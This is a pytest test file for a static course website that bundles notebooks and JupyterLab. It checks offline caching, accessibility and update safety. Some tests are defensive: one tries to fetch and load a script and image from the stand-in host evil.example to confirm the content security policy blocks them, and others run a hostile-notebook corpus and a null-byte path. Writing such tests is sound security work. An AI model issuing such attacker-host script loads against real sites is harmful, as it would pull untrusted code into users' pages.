"""The site: a folder that any static server gives out, below any path, and that works without a network once it has been seen.

The kernel is a stand-in (pages.py): what is tested is all that stands round it.
"""

import json
import os
import subprocess
import threading

import corpus.hostile
import nbformat
import pytest
from browse import axe
from corpus import code, notebook, text
from pages import LESSON, Cell, kernel
from playwright.sync_api import expect
from sites import PATH, Served, kept, lab, unexecuted, worker

from downhill_course import lite, runnable, site

unexecuted = pytest.fixture(scope="module", autouse=True)(unexecuted)


def hostile():
    """Every hostile notebook's cells in one, but for what JupyterLab's own MathJax and Markdown do not live through."""
    cells = [cell for case in corpus.hostile.CASES if "nested without end" not in case.name for cell in case.build().cells]
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
    return notebook(*cells)


def write(folder, edition="reader", **notebooks):
    """A site of these notebooks in folder."""
    sources, made = folder / "notebooks", folder / "some path" / "site"
    sources.mkdir(parents=True, exist_ok=True)
    for name, nb in notebooks.items():
        nbformat.write(nb, sources / f"{name}.ipynb")
    to = made if not made.exists() else folder / "newer"
    assert site.make(to, sorted(sources.glob("*.ipynb")), kernel(folder / f"kernel-{to.name}"), edition, 60) == []
    if to != made:
        made.rename(folder / "older")
        to.rename(made)
    return made


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    folder = tmp_path_factory.mktemp("served")
    write(folder, **{"00-lesson": LESSON, "01-other": notebook(text("# Another"), code("%%\n// nothing")), "02-hostile": hostile()})
    served = Served(folder)
    served.folder = folder
    yield served
    served.server.shutdown()


@pytest.fixture
def visitor(browser, served):
    """A page in a browser of its own, with what it asked elsewhere, said, and was asked."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(120_000)
    page.elsewhere, page.asked = [], []
    context.on("request", lambda r: page.elsewhere.append(r.url) if r.url.startswith("http") and not r.url.startswith(served.origin) else None)
    context.on("requestfailed", lambda r: page.elsewhere.remove(r.url) if r.failure == "csp" and r.url in page.elsewhere else None)  # it never left
    # JupyterLab asks whether to leave a notebook that it has not saved yet; the visitor does leave.
    page.on("dialog", lambda d: d.accept() if d.type == "beforeunload" else (page.asked.append(d.message), d.dismiss()))
    yield page
    context.close()


def test_its_first_page_leads_to_pages_whose_cells_run_and_to_jupyterlab(visitor, served):
    visitor.goto(served.address)
    visitor.get_by_role("link", name="Begin").click()
    cell = Cell(visitor, "cell-2")
    cell.run()
    assert cell.shown == "first" and cell.words.startswith("Done") and visitor.elsewhere == []
    visitor.goto(served.address)
    assert visitor.get_by_role("link", name="JupyterLab in this tab").get_attribute("href") == "lab/index.html?path=00-lesson.ipynb"


@pytest.mark.parametrize("width, scheme", [(1280, "light"), (1280, "dark"), (360, "light"), (360, "dark")])
def test_axe_finds_nothing_on_its_first_page(browser, served, width, scheme):
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme)
    page = context.new_page()
    page.goto(served.address)
    assert axe(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") == width
    context.close()


def test_what_was_fetched_once_is_not_fetched_again(visitor, served):
    visitor.goto(f"{served.address}00-lesson.html")
    worker(visitor)
    visitor.wait_for_load_state("networkidle")
    before = len(served.asked)
    visitor.goto(f"{served.address}01-other.html")
    visitor.wait_for_load_state("networkidle")
    assert [path for path in served.asked[before:] if site.FIXED.search(path)] == []


def test_it_works_without_a_network_once_it_was_seen(visitor, served):
    visitor.goto(f"{served.address}00-lesson.html")
    worker(visitor)
    Cell(visitor, "cell-2").run()
    lab(visitor, served)
    visitor.wait_for_load_state("networkidle")
    visitor.reload()
    visitor.wait_for_selector(".jp-NotebookPanel .jp-CodeCell", timeout=120_000)
    visitor.wait_for_load_state("networkidle")
    kept = visitor.evaluate("async () => (await (await caches.open((await caches.keys())[0])).keys()).map(request => request.url)")
    assert not [url for url in kept if "?" in url], "the same file is kept again for whatever stands behind its ?"
    visitor.context.set_offline(True)
    visitor.goto(f"{served.address}00-lesson.html")
    cell = Cell(visitor, "cell-8")
    cell.run()
    assert cell.words.startswith("Done")
    visitor.goto(f"{served.address}01-other.html")  # never opened before
    assert visitor.get_by_role("heading", name="Another").is_visible()
    lab(visitor, served)


def test_what_is_on_its_way_when_the_service_worker_comes_is_kept_too(visitor, served):
    path = "lab/files/00-lesson.ipynb"
    assert (served.folder / PATH.strip("/") / path).is_file()
    arrives = served.held[f"{PATH.replace(' ', '%20')}{path}"] = threading.Event()
    visitor.add_init_script(f"globalThis.came = fetch('{path}').then(answer => answer.text())")
    visitor.goto(f"{served.address}01-other.html")
    worker(visitor)
    arrives.set()
    served.held.clear()
    came = visitor.evaluate("came")
    kept(visitor, path)
    visitor.context.set_offline(True)
    assert visitor.evaluate(f"fetch('{path}').then(answer => answer.text())") == came


def test_a_name_that_no_file_can_have_is_not_found(visitor, served):
    assert visitor.request.get(f"{served.address}a%00b").status == 404


def test_its_size_and_what_a_notebook_costs(visitor, served):
    """The kernel aside: at most 22 MB on disk, and 9 MB on the way until a notebook can be seen, uncompressed as it stands."""
    made = served.folder / "some path" / "site"
    assert sum(path.stat().st_size for path in made.rglob("*") if path.is_file()) < 22e6
    lab(visitor, served)
    visitor.wait_for_load_state("networkidle")
    sizes = visitor.evaluate("performance.getEntriesByType('resource').map(e => e.encodedBodySize)")
    assert sum(sizes) < 9e6


def test_jupyterlab_opens_a_notebook_with_our_kernel_and_shows_no_other(visitor, served):
    lab(visitor, served)
    visitor.wait_for_function("() => document.body.textContent.includes('Go (Downhill) | Idle')", timeout=60_000)
    assert visitor.elsewhere == [] and visitor.locator(".jp-Dialog").count() == 0
    visitor.evaluate("jupyterapp.commands.execute('launcher:create')")
    expect(visitor.locator(".jp-LauncherCard[data-category='Notebook']")).to_have_count(1)


def change(page, words):
    """Puts words into the notebook's first code cell, and saves it."""
    page.evaluate("""async words => { const panel = jupyterapp.shell.currentWidget; await panel.context.ready;
        panel.content.widgets.find(w => w.model.type === 'code').model.sharedModel.setSource(words); await jupyterapp.commands.execute('docmanager:save'); }""", words)


def source(page):
    return page.evaluate("async () => { const panel = jupyterapp.shell.currentWidget; await panel.context.ready; return panel.content.widgets.find(w => w.model.type === 'code').model.sharedModel.getSource(); }")


def test_a_new_version_never_overwrites_a_reader_s_notebook(browser, tmp_path):
    write(tmp_path, **{"00-lesson": LESSON, "01-other": notebook(text("# Another"), code("%%\n// old"))})
    served = Served(tmp_path)
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(120_000)
    lab(page, served)
    change(page, "// mine")
    write(tmp_path, **{"00-lesson": notebook(text("# Newer"), code("// the course's newer one")), "01-other": notebook(text("# Another"), code("%%\n// new"))})
    lab(page, served)
    assert source(page) == "// mine"
    expect(page.locator(".Toastify__toast")).to_contain_text("00-lesson.ipynb", timeout=30_000)
    assert "01-other" not in page.locator(".Toastify__toast").inner_text()
    lab(page, served, "course/00-lesson.ipynb")
    assert source(page) == "// the course's newer one"
    lab(page, served, "01-other.ipynb")
    assert source(page) == "%%\n// new"
    context.close()
    served.server.shutdown()


def test_a_hostile_notebook_does_no_harm(visitor, served):
    """As a page and in JupyterLab."""
    for address in ("02-hostile.html", None):
        if address:
            visitor.goto(served.address + address)
        else:
            lab(visitor, served, "02-hostile.ipynb")
        visitor.wait_for_load_state("networkidle")
        visitor.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert (visitor.evaluate("window.evil"), visitor.elsewhere, visitor.asked) == (None, [], [])


@pytest.mark.parametrize("page", ["index.html", "00-lesson.html", "lab/index.html"])
def test_its_policy_lets_in_nothing_from_elsewhere(visitor, served, page):
    visitor.goto(served.address + page)
    refused = """async () => { const refused = []; document.addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
        await fetch('https://evil.example/').catch(() => {}); const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s);
        const i = new Image(); i.src = 'https://evil.example/x.png'; await new Promise(done => setTimeout(done, 300)); return refused; }"""
    assert {"connect-src", "img-src", "script-src-elem"} == set(visitor.evaluate(refused)) and visitor.elsewhere == []


def test_the_site_before_stays_until_the_new_one_is_there_and_nothing_is_left_beside_it(tmp_path, monkeypatch):
    ended = subprocess.Popen(["true"])
    ended.wait()
    build, other = tmp_path / "build", f".site.{os.getppid()}.new"
    for name in ("site", f".site.{ended.pid}.new", f".site.{ended.pid}.old", other, ".site-student.1.new"):
        (build / name).mkdir(parents=True)
    (build / "site" / "index.html").write_text("before")
    monkeypatch.setattr(site.clone, "root", lambda: tmp_path)
    monkeypatch.setattr(site.browser, "kernel", lambda: None)

    def make(to, *_):
        to.mkdir()
        (to / "index.html").write_text("new")
        assert (build / "site" / "index.html").read_text() == "before"
        return failures.pop()

    failures = [[], ["it fails"]]
    monkeypatch.setattr(site, "make", make)
    for status, words in (1, "before"), (0, "new"):
        assert site.main([]) == status
        assert (build / "site" / "index.html").read_text() == words
        assert sorted(path.name for path in build.iterdir()) == [".site-student.1.new", other, "site"]
    (build / "site").rename(build / f".site.{ended.pid}.old")
    site.clear(build / "site")
    assert (build / "site" / "index.html").read_text() == "new"


def test_an_edition_holds_nothing_that_is_not_for_it(tmp_path):
    made = write(tmp_path, "student", **{"00-lesson": LESSON})
    bytes_of_all = b"".join(path.read_bytes() for path in made.rglob("*") if path.is_file() and "build-" not in str(path))
    assert b"it is one" not in bytes_of_all and b"last" in bytes_of_all


def test_the_application_is_only_what_is_needed_of_it(served):
    made = served.folder / "some path" / "site" / "lab"
    assert not [path for path in made.rglob("*") if lite.OTHERS.search(path.relative_to(made).as_posix().replace(f"build-{lite.digest(lite.archive().read_bytes())}", "build"))]
    config = json.loads((made / "index.html").read_text(encoding="utf-8").partition('type="application/json">')[2].partition("</script>")[0])
    assert {extension["name"] for extension in config["federated_extensions"]} == {"@downhill/live", "@downhill/kernel", "@downhill/site"}


def test_every_file_it_names_is_there(served):
    made = served.folder / "some path" / "site"
    worker = (made / "sw.js").read_text(encoding="utf-8")
    for name in ("FIRST", "SITE"):
        listed = json.loads(worker.partition(f"const {name} = ")[2].partition(";")[0].removeprefix("new Set(").removesuffix(")"))
        assert listed and all((made / path).exists() for path in listed)
    assert runnable.PAGES.joinpath("sw.js").is_file()
